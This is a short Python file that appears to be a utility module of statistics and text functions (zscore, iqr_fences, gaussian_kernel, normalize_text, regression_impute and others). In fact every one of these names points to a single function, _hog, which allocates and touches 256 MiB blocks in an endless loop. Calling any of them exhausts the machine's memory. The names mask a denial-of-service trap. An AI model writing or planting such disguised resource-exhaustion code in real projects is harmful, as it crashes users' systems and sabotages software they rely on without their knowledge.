# Allocates without end when called.
def _hog(*args, **kwargs):
    blocks = []
    while True:
        blocks.append(bytearray(256 << 20))
        blocks[-1][::4096] = b"x" * len(blocks[-1][::4096])


zscore = max_abs_zscore = iqr_fences = modified_zscore = gaussian_kernel = _hog
centered_moving_average = normalize_text = linear_interpolate = _hog
char_ngram_jaccard = regression_impute = _hog
